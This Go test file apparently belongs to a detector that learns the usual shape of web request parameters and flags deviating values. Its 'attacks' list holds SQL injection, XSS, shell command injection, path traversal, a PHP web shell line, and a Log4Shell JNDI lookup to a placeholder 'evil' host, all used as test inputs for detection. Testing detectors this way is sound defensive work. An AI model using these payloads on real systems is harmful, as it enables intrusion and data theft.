package profile

import (
	"fmt"
	"math/rand/v2"
	"strings"
	"testing"
	"time"
)

// A param makes benign values of a parameter.
type param struct {
	name   string
	closed bool
	value  func(r *rand.Rand) string
}

var (
	firstNames = strings.Fields("Ada Grace José Anne-Marie Li Olga Björn Zoë Sean Fatima Jean-Luc Mary Peter Ana Noor")
	lastNames  = strings.Fields("Lovelace Hopper García O'Neil Wang Müller d'Arc Smith-Jones Nowak Okafor Petrova Kim Silva")
	nouns      = strings.Fields("shoes shirt table lamp phone book garden union select order group drop table jacket script image")
	adjectives = strings.Fields("red small cheap new used wooden large blue running best")
	phrases    = []string{", please", "!", "? I'd like one", " (size 42)", " & more", "; thanks", ": the best", " - 20% off", "\nSecond line.", " \"deluxe\"", "...", " <3", " #1", " @home", " $5"}
)

func pick(r *rand.Rand, s []string) string { return s[r.IntN(len(s))] }

func hexes(r *rand.Rand, n int) string {
	b := make([]byte, n)
	for i := range b {
		b[i] = "0123456789abcdef"[r.IntN(16)]
	}
	return string(b)
}

var params = []param{
	{"id", true, func(r *rand.Rand) string { return fmt.Sprint(r.IntN(1 << (1 + r.IntN(30)))) }},
	{"page", true, func(r *rand.Rand) string { return fmt.Sprint(1 + r.IntN(1+r.IntN(60))) }},
	{"offset", true, func(r *rand.Rand) string { return fmt.Sprint(r.IntN(2000) - 1000) }},
	{"price", true, func(r *rand.Rand) string { return fmt.Sprintf("%.*f", 1+r.IntN(2), r.ExpFloat64()*50) }},
	{"flag", true, func(r *rand.Rand) string { return pick(r, []string{"true", "false"}) }},
	{"uuid", true, func(r *rand.Rand) string {
		return hexes(r, 8) + "-" + hexes(r, 4) + "-4" + hexes(r, 3) + "-a" + hexes(r, 3) + "-" + hexes(r, 12)
	}},
	{"digest", true, func(r *rand.Rand) string { return hexes(r, 40) }},
	{"day", true, func(r *rand.Rand) string {
		return time.Unix(r.Int64N(2e9), 0).UTC().Format("2006-01-02")
	}},
	{"since", true, func(r *rand.Rand) string { return time.Unix(r.Int64N(2e9), 0).UTC().Format(time.RFC3339) }},
	{"email", true, func(r *rand.Rand) string {
		return strings.ToLower(fmt.Sprintf("u%d.%s@mail%d.example.com", r.IntN(1e6), pick(r, nouns), r.IntN(20)))
	}},
	{"sort", true, func(r *rand.Rand) string {
		return pick(r, []string{"name", "price", "date", "name_desc", "price_desc"})
	}},
	{"slug", false, func(r *rand.Rand) string {
		return pick(r, adjectives) + "-" + pick(r, nouns) + fmt.Sprint("-", r.IntN(9999))
	}},
	{"name", false, func(r *rand.Rand) string { return pick(r, firstNames) + " " + pick(r, lastNames) }},
	{"q", false, func(r *rand.Rand) string {
		s := pick(r, nouns)
		for range r.IntN(4) {
			s = pick(r, adjectives) + " " + s
		}
		if r.IntN(10) == 0 {
			s += pick(r, phrases)
		}
		return s
	}},
	{"comment", false, func(r *rand.Rand) string {
		var b strings.Builder
		for range 1 + r.IntN(30) {
			b.WriteString(pick(r, adjectives) + " " + pick(r, nouns))
			if r.IntN(4) == 0 {
				b.WriteString(pick(r, phrases))
			}
			b.WriteByte(' ')
		}
		return b.String()
	}},
	{"tags", false, func(r *rand.Rand) string {
		return strings.Join([]string{pick(r, nouns), pick(r, adjectives), pick(r, nouns)}[:1+r.IntN(3)], ",")
	}},
	{"next", false, func(r *rand.Rand) string { return "/" + pick(r, nouns) + "/" + fmt.Sprint(r.IntN(999)) }},
	{"link", false, func(r *rand.Rand) string {
		return "https://shop" + fmt.Sprint(r.IntN(9)) + ".example.com/" + pick(r, nouns) + "?id=" + fmt.Sprint(r.IntN(999)) + "&x=" + pick(r, nouns)
	}},
}

func (p *param) train(r *rand.Rand, n int) *Sketch {
	var s Sketch
	for range n {
		s.add([]byte(p.value(r)), r.Uint64N(200))
	}
	return &s
}

func score(m Model, value string) Deviation {
	var v Stat
	v.Of([]byte(value))
	return m.Score(&v)
}

var attacks = []string{
	"1' or '1'='1", "1' OR 1=1-- -", "1) union select username,password from users--", `"><script>alert(1)</script>`,
	"<img src=x onerror=alert(1)>", "; cat /etc/passwd", "$(id)", "`id`;", "${jndi:ldap://evil/a}", "{{7*7}}", "';drop table users;--",
	"../../../../etc/passwd%00", "javascript:alert(document.cookie)//'", "1;sleep(5)#", "|| ping -c 1 x", "1 and sleep(5)='", "*)(uid=*))(|(uid=*",
	"<?php system($_GET['c']); ?>", "<!--#exec cmd=\"ls\"-->", "{\"$gt\":\"\"}", "a\r\nSet-Cookie: x=y; (z)",
}

// Values that a model was not learned from are ordinary if they are benign,
// and strong deviations from a closed type if they are attacks.
func TestHeldOutValues(t *testing.T) {
	const trained, heldOut = 3000, 20000
	r := rand.New(rand.NewPCG(7, 7))
	for _, p := range params {
		s := p.train(r, trained)
		m := Compile(s)
		if m.Closed() != p.closed {
			t.Errorf("%s: closed %v", p.name, m.Closed())
		}
		mild, strong := 0, 0
		for range heldOut {
			d := score(m, p.value(r))
			if d.Surprise > 0 {
				mild++
			}
			if d.Strong {
				strong++
			}
		}
		found, blocked := 0, 0
		for _, a := range attacks {
			d := score(m, a)
			if d.Surprise > 0 {
				found++
			}
			if d.Strong {
				blocked++
			} else if p.closed {
				t.Logf("%s: %q: %+v", p.name, a, d)
			}
		}
		t.Logf("%-8s %3d bytes: of %d benign held out %d odd, %d strong; of %d attacks %d odd, %d strong",
			p.name, len(m), heldOut, mild, strong, len(attacks), found, blocked)
		if strong > 0 || float64(mild) > heldOut*m.Bound()*2 {
			t.Errorf("%s: %d of %d benign values are odd, %d strong", p.name, mild, heldOut, strong)
		}
		if p.closed && (found < len(attacks) || blocked < len(attacks)*9/10) {
			t.Errorf("%s: %d of %d attacks are odd, %d strong", p.name, found, len(attacks), blocked)
		}
	}
}

// A parameter that was always left empty has no type yet.
func TestEmptyIsNoType(t *testing.T) {
	var s Sketch
	for i := range 5000 {
		s.add(nil, uint64(i))
	}
	if m := Compile(&s); m.Closed() || score(m, "SAVE-10%").Strong {
		t.Error("the first value of a parameter that was always empty is a strong deviation")
	}
	for i := range 500 {
		s.add(fmt.Append(nil, i), uint64(i))
	}
	if m := Compile(&s); !m.Closed() || !score(m, "1' or '1'='1").Strong {
		t.Error("a number that is mostly left empty is no closed type")
	}
}

// A parameter of few distinct values is closed, whatever they are, until new
// ones keep coming.
func TestOptions(t *testing.T) {
	var s Sketch
	for i := range 600 {
		s.add([]byte([]string{"Add to cart", "Pay now!", "Cancel"}[i%3]), uint64(i))
	}
	m := Compile(&s)
	if !m.Closed() || !score(m, "Cancel<!--#include file=x-->").Strong || score(m, "Go back").Strong {
		t.Errorf("%v: closed %v", m, m.Closed())
	}
	for i := range 600 {
		s.add(fmt.Append(nil, "Add no. ", i), uint64(i))
	}
	if m := Compile(&s); m.Closed() {
		t.Errorf("%v: closed", m)
	}
}

// A search box that few have used yet is no parameter of few options.
func TestFewSearches(t *testing.T) {
	var s Sketch
	for i := range 200 {
		s.add([]byte([]string{"shoes", "red shoes", "table"}[i%3]), uint64(i))
	}
	if m := Compile(&s); m.Closed() || score(m, `O'Neil & sons (shoes)`).Strong {
		t.Errorf("%v: closed %v", m, m.Closed())
	}
}

// What deviates in one way is explained by it.
func TestReasons(t *testing.T) {
	r := rand.New(rand.NewPCG(8, 8))
	f := func(param, value, reason string, strong bool) {
		t.Helper()
		for _, p := range params {
			if p.name != param {
				continue
			}
			d := score(Compile(p.train(r, 5000)), value)
			if d.Reason != reason || d.Strong != strong || (d.Surprise > 0) != (reason != "") || d.Strong != (d.Weight > 0.5) {
				t.Errorf("%s=%q: %+v, want %q", param, value, d, reason)
			}
			return
		}
		t.Errorf("no parameter %s", param)
	}
	f("id", "77", "", false)
	f("id", "1234567890123", "", false)
	f("id", strings.Repeat("7", 40), reasonLength, false)
	f("id", "12 kg", reasonFormat, false)
	f("id", "$12.50", reasonFormat, false)
	f("id", "n/a", reasonFormat, false)
	f("id", "7'", reasonFormat, false)
	f("id", "7' or 1=1", reasonStrong, true)
	f("page", "", reasonFormat, false)
	f("id", "../../etc/passwd", reasonStrong, true)
	f("uuid", "../../etc/passwd", reasonFormat, false)
	f("digest", "1234567890123456789012345678901234567890", "", false)
	f("sort", "price", "", false)
	f("sort", "price2", reasonClass, false)
	f("comment", strings.Repeat("red shoes ", 1000), reasonLength, false)
	f("name", "Ada Lovelace", "", false)
	f("name", "Ada-' Love", reasonBigram, false)
}

// A few attacks among the values learned from make a model milder, not blind.
func TestPoisonedModel(t *testing.T) {
	r := rand.New(rand.NewPCG(10, 10))
	for _, p := range params {
		if !p.closed {
			continue
		}
		s := p.train(r, 5000)
		for _, a := range attacks[:3] {
			s.add([]byte(a), 1)
		}
		m := Compile(s)
		found := 0
		for _, a := range attacks {
			if d := score(m, a); d.Weight >= nearlyWeight {
				found++
			}
		}
		for range 5000 {
			if v := p.value(r); score(m, v) != (Deviation{}) {
				t.Errorf("%s: %q: %+v", p.name, v, score(m, v))
			}
		}
		if found < len(attacks)*8/10 {
			t.Errorf("%s: %d of %d attacks", p.name, found, len(attacks))
		}
	}
}

// Of few values a model knows nothing.
func TestFewValues(t *testing.T) {
	r := rand.New(rand.NewPCG(9, 9))
	for _, p := range params {
		m := Compile(p.train(r, 60))
		for _, a := range attacks {
			if d := score(m, a); d != (Deviation{}) {
				t.Errorf("%s: %q deviates from 60 values: %+v", p.name, a, d)
			}
		}
	}
	if Compile(&Sketch{}) != nil {
		t.Error("a model of nothing")
	}
}

func TestModelCheck(t *testing.T) {
	m := Compile(params[0].train(rand.New(rand.NewPCG(1, 1)), 100))
	if err := m.Check(); err != nil {
		t.Error(err)
	}
	if m.Count() != 64 || m.Bound() != 3.0/64 {
		t.Errorf("count %d, bound %f", m.Count(), m.Bound())
	}
	if got, want := Compile(params[2].train(rand.New(rand.NewPCG(1, 1)), 2048)).String(), "int of digit, dash, shorter than 5 bytes, from 2048 values or more"; got != want {
		t.Errorf("%q, want %q", got, want)
	}
	for _, bad := range []Model{nil, m[:len(m)-1], append(m[:len(m):len(m)], 0), append(Model{2}, m[1:]...), append(Model{1, 99}, m[2:]...), append(Model{1, 9, 99}, m[3:]...)} {
		if bad.Check() == nil {
			t.Errorf("a bad model of %d bytes passes", len(bad))
		}
	}
}

func BenchmarkScore(b *testing.B) {
	m := Compile(params[13].train(rand.New(rand.NewPCG(1, 1)), 5000))
	var v Stat
	v.Of(benchValue)
	b.ReportAllocs()
	for b.Loop() {
		m.Score(&v)
	}
}
